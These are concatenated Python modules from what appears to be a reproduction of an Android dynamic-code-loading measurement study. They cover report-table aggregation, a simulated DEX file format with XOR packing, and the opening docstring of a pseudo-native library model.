            else None,
            "payloads": [payload.to_dict() for payload in self.payloads],
            "vulnerabilities": [_finding_to_dict(f) for f in self.vulnerabilities],
            "replay_loaded": {
                config: sorted(paths) for config, paths in self.replay_loaded.items()
            },
            "verdict_source": self.verdict_source,
        }

    @classmethod
    def from_dict(cls, data: Dict[str, object]) -> "AppAnalysis":
        return cls(
            package=data["package"],
            corpus_index=data.get("corpus_index", -1),
            metadata=AppMetadata(**data["metadata"]),
            decompile_failed=data["decompile_failed"],
            prefilter=_prefilter_from_dict(data["prefilter"]) if data["prefilter"] else None,
            obfuscation=ObfuscationProfile(**data["obfuscation"])
            if data["obfuscation"]
            else None,
            dynamic=DynamicDigest.from_dict(data["dynamic"]) if data["dynamic"] else None,
            payloads=[PayloadVerdict.from_dict(p) for p in data["payloads"]],
            vulnerabilities=[_finding_from_dict(f) for f in data["vulnerabilities"]],
            replay_loaded={
                config: set(paths) for config, paths in data["replay_loaded"].items()
            },
            verdict_source=data.get("verdict_source", "full"),
        )


def _pct(count: int, total: int) -> str:
    return "{:.2%}".format(count / total) if total else "n/a"


def _decision_fields(decision) -> Tuple[str, str]:
    """(verdict, rule) from a live FirewallDecision or its digest dict."""
    if isinstance(decision, dict):
        return str(decision.get("verdict", "")), str(decision.get("rule", ""))
    return decision.verdict, decision.rule


@dataclass
class MeasurementReport:
    """Aggregation over a measured corpus: every table, one method each."""

    apps: List[AppAnalysis]

    # -- merging -----------------------------------------------------------------

    @classmethod
    def merge(cls, reports: Iterable["MeasurementReport"]) -> "MeasurementReport":
        """Combine partial reports into one.

        Apps are ordered by corpus index (ties broken by package), so the
        merge of any shard partition equals the serial run regardless of
        shard order -- the farm's determinism guarantee.
        """
        apps = [app for report in reports for app in report.apps]
        apps.sort(key=lambda app: (app.corpus_index, app.package))
        return cls(apps=apps)

    # -- corpus-level counts ------------------------------------------------------

    @property
    def n_total(self) -> int:
        return len(self.apps)

    def decompiled_apps(self) -> List[AppAnalysis]:
        return [a for a in self.apps if not a.decompile_failed]

    def dex_candidates(self) -> List[AppAnalysis]:
        return [a for a in self.apps if a.has_dex_dcl_code]

    def native_candidates(self) -> List[AppAnalysis]:
        return [a for a in self.apps if a.has_native_dcl_code]

    # -- Table II: dynamic analysis summary -------------------------------------------

    def dynamic_summary(self) -> Dict[str, Dict[str, int]]:
        summary: Dict[str, Dict[str, int]] = {}
        for side, candidates in (
            ("dex", self.dex_candidates()),
            ("native", self.native_candidates()),
        ):
            rewriting = sum(
                1 for a in candidates if a.outcome is DynamicOutcome.REWRITING_FAILURE
            )
            no_activity = sum(
                1 for a in candidates if a.outcome is DynamicOutcome.NO_ACTIVITY
            )
            crash = sum(1 for a in candidates if a.outcome is DynamicOutcome.CRASH)
            exercised = sum(1 for a in candidates if a.exercised)
            intercepted = sum(
                1
                for a in candidates
                if (a.dex_intercepted if side == "dex" else a.native_intercepted)
            )
            summary[side] = {
                "candidates": len(candidates),
                "failure": rewriting + no_activity + crash,
                "rewriting_failure": rewriting,
                "no_activity": no_activity,
                "crash": crash,
                "exercised": exercised,
                "intercepted": intercepted,
            }
        return summary

    def render_dynamic_summary(self) -> str:
        summary = self.dynamic_summary()
        lines = [
            "TABLE II: dynamic analysis summary out of {} apps for bytecode and {} apps for native code".format(
                summary["dex"]["candidates"], summary["native"]["candidates"]
            ),
            "{:<22}{:>18}{:>18}".format("", "DEX", "Native"),
        ]
        for label, key in (
            ("Failure", "failure"),
            ("Rewriting failure", "rewriting_failure"),
            ("No activity", "no_activity"),
            ("Crash", "crash"),
            ("Exercised", "exercised"),
            ("Intercepted", "intercepted"),
        ):
            row = "{:<22}".format(label)
            for side in ("dex", "native"):
                count = summary[side][key]
                row += "{:>18}".format(
                    "{} ({})".format(count, _pct(count, summary[side]["candidates"]))
                )
            lines.append(row)
        return "\n".join(lines)

    # -- Table III: popularity ------------------------------------------------------------

    def popularity(self) -> Dict[str, Dict[str, float]]:
        def stats(group: Sequence[AppAnalysis]) -> Dict[str, float]:
            if not group:
                return {"downloads": 0.0, "n_ratings": 0.0, "rating": 0.0}
            return {
                "downloads": sum(a.metadata.downloads for a in group) / len(group),
                "n_ratings": sum(a.metadata.n_ratings for a in group) / len(group),
                "rating": sum(a.metadata.avg_rating for a in group) / len(group),
            }

        dex = [a for a in self.apps if a.has_dex_dcl_code]
        no_dex = [a for a in self.apps if not a.has_dex_dcl_code]
        native = [a for a in self.apps if a.has_native_dcl_code]
        no_native = [a for a in self.apps if not a.has_native_dcl_code]
        return {
            "DEX": stats(dex),
            "Without DEX": stats(no_dex),
            "Native": stats(native),
            "Without Native": stats(no_native),
        }

    def render_popularity(self) -> str:
        table = self.popularity()
        lines = [
            "TABLE III: DCL vs application popularity based on {} applications".format(self.n_total),
            "{:<16}{:>14}{:>12}{:>9}".format("", "#Downloads", "#Ratings", "Rating"),
        ]
        for group in ("DEX", "Without DEX", "Native", "Without Native"):
            stats = table[group]
            lines.append(
                "{:<16}{:>14,.0f}{:>12,.0f}{:>9.2f}".format(
                    group, stats["downloads"], stats["n_ratings"], stats["rating"]
                )
            )
        return "\n".join(lines)

    # -- Table IV: responsible entity ----------------------------------------------------------

    def entity_table(self) -> Dict[str, Dict[str, int]]:
        result = {}
        for side in ("dex", "native"):
            apps = [
                a
                for a in self.apps
                if (a.dex_intercepted if side == "dex" else a.native_intercepted)
            ]
            entity_sets = [
                (a.dex_entities() if side == "dex" else a.native_entities()) for a in apps
            ]
            both = sum(1 for s in entity_sets if Entity.OWN in s and Entity.THIRD_PARTY in s)
            third = sum(1 for s in entity_sets if Entity.THIRD_PARTY in s)
            own = sum(1 for s in entity_sets if Entity.OWN in s)
            result[side] = {
                "apps": len(apps),
                "third": third,
                "own": own,
                "both": both,
            }
        return result

    def render_entity_table(self) -> str:
        table = self.entity_table()
        lines = [
            "TABLE IV: responsible entity of DCL out of {} apps for bytecode and {} apps for native code".format(
                table["dex"]["apps"], table["native"]["apps"]
            ),
            "{:<10}{:>22}{:>18}{:>24}".format("", "3rd-party (#Apps)", "Own (#Apps)", "3rd-party & Own (#Apps)"),
        ]
        for side, label in (("dex", "DEX"), ("native", "Native")):
            row = table[side]
            total = row["apps"]
            lines.append(
                "{:<10}{:>22}{:>18}{:>24}".format(
                    label,
                    "{} ({})".format(row["third"], _pct(row["third"], total)),
                    "{} ({})".format(row["own"], _pct(row["own"], total)),
                    "{} ({})".format(row["both"], _pct(row["both"], total)),
                )
            )
        return "\n".join(lines)

    # -- Table V: remote fetch ---------------------------------------------------------------------

    def remote_fetch_apps(self) -> List[Tuple[str, Tuple[str, ...]]]:
        """(package, remote source URLs) for apps executing remote code."""
        rows = []
        for app in self.apps:
            remote = app.remote_payloads()
            if remote:
                urls: List[str] = []
                for payload in remote:
                    urls.extend(payload.remote_sources)
                rows.append((app.package, tuple(sorted(set(urls)))))
        return sorted(rows)

    def render_remote_fetch(self) -> str:
        rows = self.remote_fetch_apps()
        lines = ["TABLE V: {} apps executing binaries downloaded from remote servers".format(len(rows))]
        for package, urls in rows:
            lines.append("  {}  <- {}".format(package, ", ".join(urls)))
        return "\n".join(lines)

    # -- Table VI: obfuscation ------------------------------------------------------------------------

    def obfuscation_table(self) -> Dict[str, int]:
        counts = {
            "Lexical": 0,
            "Reflection": 0,
            "Native": 0,
            "DEX encryption": 0,
            "Anti-decompilation": 0,
        }
        for app in self.apps:
            profile = app.obfuscation
            if profile is None:
                continue
            counts["Lexical"] += profile.lexical
            counts["Reflection"] += profile.reflection
            counts["Native"] += profile.native
            counts["DEX encryption"] += profile.dex_encryption
            counts["Anti-decompilation"] += profile.anti_decompilation
        return counts

    def render_obfuscation_table(self) -> str:
        counts = self.obfuscation_table()
        lines = [
            "TABLE VI: #apps using obfuscation techniques out of {} applications".format(self.n_total),
            "{:<22}{:>16}".format("Technique", "#Apps (%)"),
        ]
        for technique, count in counts.items():
            lines.append(
                "{:<22}{:>16}".format(technique, "{} ({})".format(count, _pct(count, self.n_total)))
            )
        return "\n".join(lines)

    # -- Figure 3: DEX encryption by category ----------------------------------------------------------

    def dex_encryption_by_category(self) -> Dict[str, int]:
        counts: Dict[str, int] = {}
        for app in self.apps:
            if app.obfuscation and app.obfuscation.dex_encryption:
                counts[app.metadata.category] = counts.get(app.metadata.category, 0) + 1
        return dict(sorted(counts.items(), key=lambda item: (-item[1], item[0])))

    def packer_vendors(self) -> Dict[str, int]:
        """Hardening-vendor attribution for the DEX-encryption apps."""
        counts: Dict[str, int] = {}
        for app in self.apps:
            profile = app.obfuscation
            if profile and profile.dex_encryption and profile.packer_vendor:
                counts[profile.packer_vendor] = counts.get(profile.packer_vendor, 0) + 1
        return dict(sorted(counts.items(), key=lambda item: (-item[1], item[0])))

    def render_fig3(self) -> str:
        counts = self.dex_encryption_by_category()
        lines = ["FIGURE 3: #apps with DEX encryption vs application category"]
        for category, count in counts.items():
            lines.append("  {:<20}{:>4} {}".format(category, count, "#" * count))
        return "\n".join(lines)

    # -- Table VII: malware -----------------------------------------------------------------------------

    def malware_table(self) -> Dict[str, Dict[str, object]]:
        rows: Dict[str, Dict[str, object]] = {}
        for app in self.apps:
            for payload in app.malicious_payloads():
                family = payload.detection.family
                row = rows.setdefault(
                    family,
                    {"apps": set(), "files": 0, "kind": payload.kind.value, "sample": None},
                )
                row["apps"].add(app.package)
                row["files"] += 1
                best = row["sample"]
                if best is None or app.metadata.downloads > best[1]:
                    row["sample"] = (app.package, app.metadata.downloads)
        return {
            family: {
                "n_apps": len(row["apps"]),
                "n_files": row["files"],
                "kind": row["kind"],
                "sample_app": row["sample"][0] if row["sample"] else "",
                "sample_downloads": row["sample"][1] if row["sample"] else 0,
            }
            for family, row in rows.items()
        }

    def render_malware_table(self) -> str:
        table = self.malware_table()
        total_apps = len(
            {app.package for app in self.apps if app.malicious_payloads()}
        )
        total_files = sum(row["n_files"] for row in table.values())
        lines = [
            "TABLE VII: malware detected in DCL ({} apps, {} files)".format(total_apps, total_files),
            "{:<10}{:<28}{:>7}  {}".format("", "Family", "#Apps", "Sample App (#Downloads)"),
        ]
        for family, row in sorted(table.items()):
            lines.append(
                "{:<10}{:<28}{:>7}  {} ({:,})".format(
                    "DEX" if row["kind"] == "dex" else "Native",
                    family,
                    row["n_apps"],
                    row["sample_app"],
                    row["sample_downloads"],
                )
            )
        return "\n".join(lines)

    # -- Table VIII: runtime configurations ------------------------------------------------------------------

    def malicious_file_count(self) -> int:
        return sum(len(app.malicious_payloads()) for app in self.apps)

    def runtime_config_table(self) -> Dict[str, Dict[str, int]]:
        """config name -> {loaded, total} over all malicious files."""
        totals: Dict[str, Dict[str, int]] = {}
        for app in self.apps:
            malicious = {p.path for p in app.malicious_payloads()}
            if not malicious:
                continue
            for config, loaded_paths in app.replay_loaded.items():
                bucket = totals.setdefault(config, {"loaded": 0, "total": 0})
                bucket["total"] += len(malicious)
                bucket["loaded"] += len(malicious & loaded_paths)
        return totals

    def render_runtime_config_table(self) -> str:
        table = self.runtime_config_table()
        lines = [
            "TABLE VIII: malicious code loaded in various configurations over {} files".format(
                self.malicious_file_count()
            ),
            "{:<34}{:>26}".format("Configuration", "#Files intercepted (%)"),
        ]
        for config, bucket in sorted(table.items()):
            lines.append(
                "{:<34}{:>26}".format(
                    config,
                    "{} ({})".format(bucket["loaded"], _pct(bucket["loaded"], bucket["total"])),
                )
            )
        return "\n".join(lines)

    # -- Table IX: vulnerabilities ----------------------------------------------------------------------------

    def vulnerability_table(self) -> Dict[Tuple[str, str], List[Tuple[str, int]]]:
        """(code kind, category) -> [(package, downloads)]."""
        rows: Dict[Tuple[str, str], List[Tuple[str, int]]] = {}
        for app in self.apps:
            for finding in app.vulnerabilities:
                key = (finding.code_kind, finding.category.value)
                rows.setdefault(key, []).append((app.package, app.metadata.downloads))
        return {key: sorted(set(value), key=lambda r: -r[1]) for key, value in rows.items()}

    def render_vulnerability_table(self) -> str:
        table = self.vulnerability_table()
        n_apps = len({pkg for rows in table.values() for pkg, _ in rows})
        lines = ["TABLE IX: {} vulnerable applications detected".format(n_apps)]
        for (kind, category), rows in sorted(table.items()):
            lines.append("  {} / {}: {} apps".format(kind.upper(), category, len(rows)))
            for package, downloads in rows:
                lines.append("    {} ({:,})".format(package, downloads))
        return "\n".join(lines)

    # -- Table X: privacy ----------------------------------------------------------------------------------------

    def privacy_table(self) -> Dict[str, Dict[str, object]]:
        """data type -> {category, n_apps, exclusively_third, pct}."""
        table: Dict[str, Dict[str, object]] = {}
        for data_type in DATA_TYPES:
            apps_with = 0
            exclusively_third = 0
            for app in self.apps:
                entities = app.leaked_types().get(data_type)
                if not entities:
                    continue
                apps_with += 1
                if entities == {Entity.THIRD_PARTY}:
                    exclusively_third += 1
            if apps_with:
                table[data_type] = {
                    "category": DATA_TYPE_CATEGORY.get(data_type, "?"),
                    "n_apps": apps_with,
                    "exclusively_third": exclusively_third,
                }
        return table

    def render_privacy_table(self) -> str:
        table = self.privacy_table()
        n_base = sum(1 for a in self.apps if a.dex_intercepted)
        lines = [
            "TABLE X: privacy tracking in dynamically loaded code based on {} applications".format(n_base),
            "{:<24}{:>6}{:>9}{:>28}".format("Data type", "Categ", "#Apps", "Exclusively 3rd-party (%)"),
        ]
        for data_type, row in table.items():
            lines.append(
                "{:<24}{:>6}{:>9}{:>28}".format(
                    data_type,
                    row["category"],
                    row["n_apps"],
                    "{} ({})".format(
                        row["exclusively_third"], _pct(row["exclusively_third"], row["n_apps"])
                    ),
                )
            )
        return "\n".join(lines)

    # -- defense: firewall enforcement outcomes --------------------------------------------------------------------

    def defense_table(self) -> Dict[str, object]:
        """Enforcement outcomes carried on the per-app dynamic results.

        Aggregates identically from live :class:`DynamicReport` objects and
        deserialized :class:`DynamicDigest` records, so defended farm runs
        merge to the same numbers as a defended serial run.
        """
        policies: Set[str] = set()
        denied = quarantined = rejected = apps_blocked = 0
        by_rule: Dict[str, int] = {}
        for app in self.apps:
            dynamic = app.dynamic
            if dynamic is None:
                continue
            if dynamic.firewall_policy:
                policies.add(dynamic.firewall_policy)
            blocked_here = 0
            for decision in dynamic.firewall_decisions:
                verdict, rule = _decision_fields(decision)
                if verdict == "deny":
                    denied += 1
                elif verdict == "quarantine":
                    quarantined += 1
                else:
                    continue
                blocked_here += 1
                by_rule[rule] = by_rule.get(rule, 0) + 1
            if blocked_here:
                apps_blocked += 1
            rejected += dynamic.loads_rejected
        return {
            "policies": sorted(policies),
            "apps_blocked": apps_blocked,
            "loads_denied": denied,
            "loads_quarantined": quarantined,
            "secure_loader_rejections": rejected,
            "by_rule": dict(sorted(by_rule.items())),
        }

    def render_defense_table(self) -> str:
        table = self.defense_table()
        lines = [
            "DEFENSE: DCL firewall enforcement under policy [{}] over {} applications".format(
                ", ".join(table["policies"]) or "off", self.n_total
            ),
            "{:<28}{:>10}".format("Apps with blocked loads", "{} ({})".format(
                table["apps_blocked"], _pct(table["apps_blocked"], self.n_total)
            )),
            "{:<28}{:>10}".format("Loads denied", table["loads_denied"]),
            "{:<28}{:>10}".format("Loads quarantined", table["loads_quarantined"]),
            "{:<28}{:>10}".format("Secure-loader rejections", table["secure_loader_rejections"]),
        ]
        for rule, count in table["by_rule"].items():
            lines.append("  rule {:<22}{:>10}".format(rule, count))
        return "\n".join(lines)

    # -- triage: tier-0 verdict provenance -------------------------------------------------------------------------

    def triage_table(self) -> Dict[str, object]:
        """Which verdicts came from the tier-0 gate vs the full analyzers.

        Counts apps and payloads by ``verdict_source`` so a triage
        short-circuit is never silently conflated with an analyzer
        verdict; ``suspected`` counts the synthetic ``triage.suspected``
        detections among the triage-sourced apps.
        """
        payload_apps = triaged_apps = suspected = 0
        triaged_payloads = full_payloads = 0
        for app in self.apps:
            if not app.payloads:
                continue
            payload_apps += 1
            if app.verdict_source == "triage":
                triaged_apps += 1
            for payload in app.payloads:
                if payload.verdict_source == "triage":
                    triaged_payloads += 1
                    if payload.detection is not None:
                        suspected += 1
                else:
                    full_payloads += 1
        return {
            "payload_apps": payload_apps,
            "triaged_apps": triaged_apps,
            "full_apps": payload_apps - triaged_apps,
            "triaged_payloads": triaged_payloads,
            "full_payloads": full_payloads,
            "suspected_detections": suspected,
        }

    def render_triage_table(self) -> str:
        table = self.triage_table()
        lines = [
            "TRIAGE: tier-0 verdict provenance over {} applications with payloads".format(
                table["payload_apps"]
            ),
            "{:<30}{:>12}".format(
                "Apps short-circuited",
                "{} ({})".format(
                    table["triaged_apps"],
                    _pct(table["triaged_apps"], table["payload_apps"]),
                ),
            ),
            "{:<30}{:>12}".format("Apps fully analyzed", table["full_apps"]),
            "{:<30}{:>12}".format("Payload verdicts from triage", table["triaged_payloads"]),
            "{:<30}{:>12}".format("Payload verdicts from tier 1", table["full_payloads"]),
            "{:<30}{:>12}".format("Suspected-hazard verdicts", table["suspected_detections"]),
        ]
        return "\n".join(lines)

    # -- Table 11: modern DCL ecosystems --------------------------------------------------------------------------------

    def ecosystems_table(self) -> Dict[str, object]:
        """Hazard-class coverage of the modern-DCL ecosystem scenario pack.

        One row per hazard class (apps triggering it, payloads carrying
        it); zero rows on classic-landscape corpora, so the table -- like
        the defense and triage extras -- only renders when it has data.
        """
        from repro.ecosystems.hazards import ALL_HAZARD_CLASSES

        by_class: Dict[str, Dict[str, object]] = {}
        hazard_apps: Set[str] = set()
        for app in self.apps:
            app_classes: Set[str] = set()
            for payload in app.payloads:
                for hazard in payload.hazards:
                    row = by_class.setdefault(hazard, {"apps": set(), "payloads": 0})
                    row["apps"].add(app.package)
                    row["payloads"] += 1
                    app_classes.add(hazard)
            if app_classes:
                hazard_apps.add(app.package)
        return {
            "hazard_apps": len(hazard_apps),
            "classes": {
                hazard: {
                    "n_apps": len(by_class[hazard]["apps"]),
                    "n_payloads": by_class[hazard]["payloads"],
                }
                for hazard in ALL_HAZARD_CLASSES
                if hazard in by_class
            },
        }

    def render_ecosystems_table(self) -> str:
        table = self.ecosystems_table()
        lines = [
            "TABLE 11: modern DCL ecosystem hazards in {} of {} applications".format(
                table["hazard_apps"], self.n_total
            ),
            "{:<24}{:>9}{:>12}".format("Hazard class", "#Apps", "#Payloads"),
        ]
        for hazard, row in table["classes"].items():
            lines.append(
                "{:<24}{:>9}{:>12}".format(hazard, row["n_apps"], row["n_payloads"])
            )
        return "\n".join(lines)

    # -- machine-readable export -------------------------------------------------------------------------------------

    def to_dict(self, include_apps: bool = False) -> Dict[str, object]:
        """Every table as plain data, for JSON export / downstream tooling.

        With ``include_apps`` the document additionally carries the full
        per-app serialization under ``"apps"``; such a document restores
        through :meth:`from_dict`.
        """
        vulnerability = {
            "{}/{}".format(kind, category): rows
            for (kind, category), rows in self.vulnerability_table().items()
        }
        data = {}
        if include_apps:
            data["serialization_version"] = SERIALIZATION_VERSION
            data["apps"] = [app.to_dict() for app in self.apps]
        data.update(self._tables_dict(vulnerability))
        return data

    def _tables_dict(self, vulnerability: Dict[str, object]) -> Dict[str, object]:
        return {
            "n_total": self.n_total,
            "table2_dynamic_summary": self.dynamic_summary(),
            "table3_popularity": self.popularity(),
            "table4_entity": self.entity_table(),
            "table5_remote_fetch": [
                {"package": package, "urls": list(urls)}
                for package, urls in self.remote_fetch_apps()
            ],
            "table6_obfuscation": self.obfuscation_table(),
            "fig3_dex_encryption_by_category": self.dex_encryption_by_category(),
            "table7_malware": self.malware_table(),
            "table8_runtime_configs": self.runtime_config_table(),
            "table9_vulnerabilities": vulnerability,
            "table10_privacy": self.privacy_table(),
            "defense_enforcement": self.defense_table(),
            "triage_provenance": self.triage_table(),
            "table11_ecosystems": self.ecosystems_table(),
        }

    @classmethod
    def from_dict(cls, data: Dict[str, object]) -> "MeasurementReport":
        """Restore a report serialized via ``to_dict(include_apps=True)``."""
        if "apps" not in data:
            raise ValueError(
                "not a full report document (serialize with include_apps=True)"
            )
        version = data.get("serialization_version", SERIALIZATION_VERSION)
        if version != SERIALIZATION_VERSION:
            raise ValueError(
                "unsupported report serialization version {}".format(version)
            )
        return cls(apps=[AppAnalysis.from_dict(app) for app in data["apps"]])

    def to_json(self, indent: int = 1, include_apps: bool = False) -> str:
        import json

        return json.dumps(
            self.to_dict(include_apps=include_apps), indent=indent, sort_keys=True
        )

    @classmethod
    def from_json(cls, text: str) -> "MeasurementReport":
        import json

        return cls.from_dict(json.loads(text))

    # -- everything --------------------------------------------------------------------------------------------------

    def render_all(self) -> str:
        blocks = [
            self.render_dynamic_summary(),
            self.render_popularity(),
            self.render_entity_table(),
            self.render_remote_fetch(),
            self.render_obfuscation_table(),
            self.render_fig3(),
            self.render_malware_table(),
            self.render_runtime_config_table(),
            self.render_vulnerability_table(),
            self.render_privacy_table(),
        ]
        # Only defended runs grow the extra block, keeping undefended
        # output byte-identical to the pre-firewall pipeline.
        if self.defense_table()["policies"]:
            blocks.append(self.render_defense_table())
        # Same for triage: only runs with tier-0 short-circuits grow it.
        if self.triage_table()["triaged_apps"]:
            blocks.append(self.render_triage_table())
        # And for the ecosystem scenario pack: classic corpora trigger no
        # ecosystem hazard classes and keep their original output.
        if self.ecosystems_table()["classes"]:
            blocks.append(self.render_ecosystems_table())
        return "\n\n".join(blocks)
