"""DEX files: classes, methods, serialization, optimization, and packing.

A :class:`DexFile` is the unit of executable bytecode in the simulated
ecosystem, mirroring ``classes.dex`` in a real APK.  DEX files serialize to
bytes (with the real format's magic ``dex\\n035``) so they can live in the
virtual filesystem, travel over the simulated network, be intercepted by
DyDroid, and be hashed/compared.  The byte encoding is a deterministic JSON
body behind the magic header -- the *structure* (magic, class defs, method
tables, string pool) matches what DyDroid's analyses need, not the exact
binary layout of libdex.

Three derived artifact forms are provided, matching the paper:

- :func:`DexFile.to_odex` -- the "optimized" form the class loader writes to
  the ``optimizedDirectory`` (magic ``dey\\n036``).
- :func:`DexFile.encrypt` / :func:`DexFile.decrypt` -- the XOR packing used
  by DEX-encryption app-hardening services (Bangcle/Ijiami-style); encrypted
  payloads are *not* parseable as DEX, which is exactly why packers defeat
  static analysis.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional, Sequence

from repro.android.bytecode import (
    Cmp,
    FieldRef,
    Instruction,
    MethodRef,
    Op,
    Operand,
)

DEX_MAGIC = b"dex\n035\x00"
ODEX_MAGIC = b"dey\n036\x00"
ENCRYPTED_MAGIC = b"enc\n001\x00"


class DexFormatError(ValueError):
    """Raised when bytes do not decode to a valid DEX file."""


@dataclass
class DexField:
    """A field definition inside a class."""

    name: str
    type_name: str = "java.lang.Object"
    is_static: bool = False


@dataclass
class DexMethod:
    """A method definition: name, registers, and a flat instruction list."""

    name: str
    class_name: str
    arity: int = 0
    registers: int = 8
    is_public: bool = True
    is_static: bool = False
    instructions: List[Instruction] = field(default_factory=list)

    @property
    def ref(self) -> MethodRef:
        return MethodRef(self.class_name, self.name, self.arity)

    def labels(self) -> Dict[str, int]:
        """Map label name -> index of the LABEL pseudo-instruction."""
        return {
            insn.args[0]: index
            for index, insn in enumerate(self.instructions)
            if insn.op is Op.LABEL
        }

    def invoked_refs(self) -> Iterator[MethodRef]:
        """Yield every method reference this method invokes."""
        for insn in self.instructions:
            ref = insn.invoked
            if ref is not None:
                yield ref


@dataclass
class DexClass:
    """A class definition: dotted Java name, superclass, members."""

    name: str
    superclass: str = "java.lang.Object"
    methods: List[DexMethod] = field(default_factory=list)
    fields: List[DexField] = field(default_factory=list)

    @property
    def package(self) -> str:
        head, _, _ = self.name.rpartition(".")
        return head

    @property
    def simple_name(self) -> str:
        _, _, tail = self.name.rpartition(".")
        return tail

    def method(self, name: str) -> Optional[DexMethod]:
        """Look up a method by name (first match)."""
        for method in self.methods:
            if method.name == name:
                return method
        return None

    def add_method(self, method: DexMethod) -> DexMethod:
        self.methods.append(method)
        return method


@dataclass
class DexFile:
    """A container of classes -- the unit of dynamic code loading."""

    classes: List[DexClass] = field(default_factory=list)
    source_name: str = "classes.dex"

    # -- queries -------------------------------------------------------------

    def class_named(self, name: str) -> Optional[DexClass]:
        for cls in self.classes:
            if cls.name == name:
                return cls
        return None

    def iter_methods(self) -> Iterator[DexMethod]:
        for cls in self.classes:
            yield from cls.methods

    def invoked_refs(self) -> Iterator[MethodRef]:
        for method in self.iter_methods():
            yield from method.invoked_refs()

    def packages(self) -> List[str]:
        """Distinct packages of the classes defined here, sorted."""
        return sorted({cls.package for cls in self.classes})

    def merge(self, other: "DexFile") -> None:
        """Append another DEX file's classes (multidex-style merge)."""
        self.classes.extend(other.classes)

    # -- serialization -------------------------------------------------------

    def to_bytes(self) -> bytes:
        """Serialize to the on-disk DEX byte format."""
        body = json.dumps(_encode_dex(self), sort_keys=True).encode("utf-8")
        return DEX_MAGIC + body

    @classmethod
    def from_bytes(cls, data: bytes) -> "DexFile":
        """Parse DEX or ODEX bytes back into a DexFile.

        Raises :class:`DexFormatError` for foreign or encrypted payloads --
        the same failure a real disassembler hits on a packed resource.
        """
        if data.startswith(DEX_MAGIC):
            body = data[len(DEX_MAGIC):]
        elif data.startswith(ODEX_MAGIC):
            body = data[len(ODEX_MAGIC):]
        elif data.startswith(ENCRYPTED_MAGIC):
            raise DexFormatError("payload is encrypted; not valid DEX")
        else:
            raise DexFormatError("bad magic; not a DEX file")
        try:
            payload = json.loads(body.decode("utf-8"))
        except (UnicodeDecodeError, json.JSONDecodeError) as exc:
            raise DexFormatError("corrupt DEX body") from exc
        return _decode_dex(payload)

    def to_odex(self) -> bytes:
        """The optimized form the class loader emits into optimizedDirectory."""
        body = json.dumps(_encode_dex(self), sort_keys=True).encode("utf-8")
        return ODEX_MAGIC + body

    def sha256(self) -> str:
        return hashlib.sha256(self.to_bytes()).hexdigest()

    # -- packing -------------------------------------------------------------

    def encrypt(self, key: bytes) -> bytes:
        """XOR-pack this DEX the way DEX-encryption hardening services do."""
        if not key:
            raise ValueError("encryption key must be non-empty")
        return ENCRYPTED_MAGIC + _xor(self.to_bytes(), key)

    @classmethod
    def decrypt(cls, data: bytes, key: bytes) -> "DexFile":
        """Reverse :meth:`encrypt`; this is what the packer's native stub does."""
        if not data.startswith(ENCRYPTED_MAGIC):
            raise DexFormatError("payload is not an encrypted DEX")
        return cls.from_bytes(_xor(data[len(ENCRYPTED_MAGIC):], key))


def is_dex_bytes(data: bytes) -> bool:
    """True when the payload carries DEX or ODEX magic."""
    return data.startswith(DEX_MAGIC) or data.startswith(ODEX_MAGIC)


def is_encrypted_dex_bytes(data: bytes) -> bool:
    """True when the payload is a packed (encrypted) DEX."""
    return data.startswith(ENCRYPTED_MAGIC)


def _xor(data: bytes, key: bytes) -> bytes:
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


# -- JSON (de)serialization helpers ------------------------------------------


def _encode_operand(value: Operand) -> object:
    if isinstance(value, MethodRef):
        return {"$m": [value.class_name, value.name, value.arity]}
    if isinstance(value, FieldRef):
        return {"$f": [value.class_name, value.name]}
    if isinstance(value, Cmp):
        return {"$c": value.value}
    if isinstance(value, tuple):
        return {"$t": list(value)}
    return value


def _decode_operand(value: object) -> Operand:
    if isinstance(value, dict):
        if "$m" in value:
            cls_name, name, arity = value["$m"]
            return MethodRef(cls_name, name, arity)
        if "$f" in value:
            cls_name, name = value["$f"]
            return FieldRef(cls_name, name)
        if "$c" in value:
            return Cmp(value["$c"])
        if "$t" in value:
            return tuple(value["$t"])
        raise DexFormatError("unknown operand tag: {}".format(sorted(value)))
    return value  # type: ignore[return-value]


def _encode_insn(insn: Instruction) -> list:
    return [insn.op.value, [_encode_operand(a) for a in insn.args]]


def _decode_insn(raw: Sequence) -> Instruction:
    op_value, args = raw
    return Instruction(Op(op_value), tuple(_decode_operand(a) for a in args))


def _encode_dex(dex: DexFile) -> dict:
    return {
        "source": dex.source_name,
        "classes": [
            {
                "name": cls.name,
                "super": cls.superclass,
                "fields": [
                    [f.name, f.type_name, f.is_static] for f in cls.fields
                ],
                "methods": [
                    {
                        "name": m.name,
                        "arity": m.arity,
                        "registers": m.registers,
                        "public": m.is_public,
                        "static": m.is_static,
                        "code": [_encode_insn(i) for i in m.instructions],
                    }
                    for m in cls.methods
                ],
            }
            for cls in dex.classes
        ],
    }


def _decode_dex(payload: dict) -> DexFile:
    try:
        classes = []
        for raw_cls in payload["classes"]:
            cls = DexClass(name=raw_cls["name"], superclass=raw_cls["super"])
            cls.fields = [
                DexField(name=n, type_name=t, is_static=s)
                for n, t, s in raw_cls["fields"]
            ]
            for raw_method in raw_cls["methods"]:
                cls.methods.append(
                    DexMethod(
                        name=raw_method["name"],
                        class_name=cls.name,
                        arity=raw_method["arity"],
                        registers=raw_method["registers"],
                        is_public=raw_method["public"],
                        is_static=raw_method["static"],
                        instructions=[
                            _decode_insn(i) for i in raw_method["code"]
                        ],
                    )
                )
            classes.append(cls)
    except (KeyError, TypeError, ValueError) as exc:
        raise DexFormatError("malformed DEX payload") from exc
    return DexFile(classes=classes, source_name=payload.get("source", "classes.dex"))
