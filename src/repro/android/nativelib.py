"""Pseudo-native shared libraries (``.so``).

Android apps can dynamically load native code through the JNI
(``System.loadLibrary`` / ``Runtime.load``).  This module models native
libraries with two complementary faces:

- an **analyzable face**: every exported function is a control-flow graph of
  :class:`NativeBlock` basic blocks over a small ARM-like pseudo-ISA.  This
  is what DroidNative lifts to MAIL and matches as an annotated CFG, and it
  is deliberately platform-tagged (``arch``) because DroidNative's pitch is
  platform-independent analysis of ARM/x86 binaries.

- an **executable face**: an optional *intrinsic* per exported function -- a
  declarative description of the high-level effect the function has when the
  simulated JNI executes it (decrypt-and-load a packed DEX, attach ptrace to
  chat apps and exfiltrate history, plain no-op...).  The paper's DyDroid
  never interprets native instructions either; it intercepts the binary and
  analyzes it statically, while the behaviour happens on the device.  The
  intrinsic is how our device exhibits that behaviour.

